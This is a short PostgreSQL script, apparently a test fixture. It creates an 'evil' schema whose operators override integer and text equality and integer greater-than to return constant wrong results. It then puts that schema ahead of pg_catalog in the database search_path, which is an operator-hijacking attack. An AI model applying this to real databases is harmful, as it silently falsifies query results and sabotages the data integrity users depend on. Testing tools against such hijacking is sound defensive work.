create schema evil;
create function evil.t(int,int) returns bool language sql immutable as 'select true';
create function evil.fl(text,text) returns bool language sql immutable as 'select false';
create function evil.fi(int,int) returns bool language sql immutable as 'select false';
create operator evil.= (leftarg=int,rightarg=int,function=evil.t);
create operator evil.= (leftarg=text,rightarg=text,function=evil.fl);
create operator evil.> (leftarg=int,rightarg=int,function=evil.fi);
alter database DATABASE set search_path = evil, pg_catalog, public;
